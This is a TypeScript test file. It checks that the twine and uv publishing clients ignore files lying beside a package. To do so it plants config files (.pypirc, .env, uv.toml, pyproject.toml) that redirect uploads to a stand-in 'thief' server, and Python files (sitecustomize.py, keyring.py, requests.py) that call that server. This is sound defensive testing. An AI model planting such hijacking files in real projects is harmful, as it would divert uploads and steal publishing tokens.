import { assertEquals } from "@std/assert";
import { twine } from "../../src/publish/clients/twine.ts";
import { uv } from "../../src/publish/clients/uv.ts";
import { digest } from "../../src/publish/digests.ts";
import { onBench, packageAt, testWith } from "../clients/support.ts";
import { holdsToken, thief } from "./thief.ts";

/** A wheel would do no better: what counts is what lies beside it in the directory that the client starts in. */
for (const client of [twine, uv]) {
  testWith([client.program], `what lies beside the files steers ${client.name} nowhere`, async () => {
    const other = thief("{}", "403 Forbidden");
    try {
      await onBench({}, async (bench) => {
        const pkg = packageAt(bench, "pypi", "widget", { client: client.name });
        const contents: Record<string, string> = {
          "widget-1.0.0.tar.gz": "not even one",
          ".pypirc": `[pypi]\nrepository = ${other.origin}/\nusername = __token__\npassword = x\n`,
          ".netrc": `machine 127.0.0.1 login x password y\n`,
          "uv.toml": `publish-url = "${other.origin}/"\n`,
          "pyproject.toml": `[tool.uv]\npublish-url = "${other.origin}/"\n`,
          ".env": `TWINE_REPOSITORY_URL=${other.origin}/\nUV_PUBLISH_URL=${other.origin}/\n`,
          "sitecustomize.py": `import urllib.request\nurllib.request.urlopen("${other.origin}/CANARY")\n`,
          "keyring.py": `import urllib.request\nurllib.request.urlopen("${other.origin}/CANARY")\n`,
          "requests.py": `import urllib.request\nurllib.request.urlopen("${other.origin}/CANARY")\n`,
        };
        await Deno.mkdir(`${bench.place}/artifacts/pypi/widget`, { recursive: true });
        const files = [];
        for (const [name, text] of Object.entries(contents)) {
          const bytes = new TextEncoder().encode(text);
          await Deno.writeFile(`${bench.place}/artifacts/pypi/widget/${name}`, bytes);
          files.push({ name, ...await digest(bytes) });
        }
        const packed = {
          name: "widget",
          kind: "pypi" as const,
          registry: "pypi",
          version: "1.0.0",
          directory: "pypi/widget",
          files,
        };
        await client.upload(bench.session, bench.uploadJob(pkg, packed)).catch(() => null);
        assertEquals(other.loot.filter(holdsToken), []);
      });
    } finally {
      await other.close();
    }
  });
}
